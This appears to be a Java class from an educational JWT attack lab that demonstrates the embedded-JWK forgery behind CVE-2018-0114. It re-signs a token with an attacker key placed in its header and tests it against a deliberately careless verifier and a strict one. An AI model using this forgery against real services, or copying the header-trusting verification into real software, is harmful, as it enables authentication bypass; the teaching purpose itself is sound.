package loginlens.attack.forging;

import com.auth0.jwt.algorithms.Algorithm;
import java.security.KeyPair;
import java.security.interfaces.ECPrivateKey;
import java.security.interfaces.ECPublicKey;
import java.util.List;
import loginlens.attack.Attack;
import loginlens.attack.Card;
import loginlens.attack.Difficulty;
import loginlens.attack.Forging;
import loginlens.attack.Parameter;
import loginlens.attack.RealCase;
import loginlens.attack.Setup;
import loginlens.attack.StrictServer;
import loginlens.attack.Values;
import loginlens.attack.careless.KeyFromHeader;
import loginlens.attack.lab.Lab;
import loginlens.attack.lab.LabKeys;
import loginlens.text.Message;
import loginlens.token.checks.CheckKind;

/** The token brings its own key along. Case: the CVE list, CVE-2018-0114. */
final class EmbeddedJwk implements Attack {
    private static final Card CARD = Card.of("jwk", Difficulty.MEDIUM, "RFC 8725 §3.10",
            new RealCase("Cisco node-jose before 0.11.0", 2018, "CVE-2018-0114"), CheckKind.SIGNATURE,
            KeyFromHeader.class);

    @Override
    public Card card() {
        return CARD;
    }

    @Override
    public List<Parameter> parameters() {
        return List.of(Parameter.ROLE);
    }

    @Override
    public Setup prepare(Lab lab, Values values) {
        KeyPair own = lab.keys().ec();
        KeyPair attackers = lab.keys().ec();
        String jwk = LabKeys.jwk(attackers);
        String honest = lab.draft(lab.student()).header("alg", "ES256").signed(es256(own)).compact();
        Forging forging = Steps.withTokenOf(lab, honest).knowing("attack.known.ownPair");
        forging.fact(Message.of("attack.fact.jwk"), jwk);
        Steps.role(forging, values.of(Parameter.ROLE));
        forging.move(Message.of("attack.move.jwk"), draft -> draft.headerJson("jwk", jwk));
        forging.move(Message.of("attack.move.signedPair"), draft -> draft.signed(es256(attackers)));
        ECPublicKey open = (ECPublicKey) own.getPublic();
        return new Setup(new KeyFromHeader(open), Steps.strict(Algorithm.ECDSA256(open, null)),
                new StrictServer(LabKeys.es256(own), lab), honest, forging.done());
    }

    private static Algorithm es256(KeyPair pair) {
        return Algorithm.ECDSA256((ECPublicKey) pair.getPublic(), (ECPrivateKey) pair.getPrivate());
    }
}
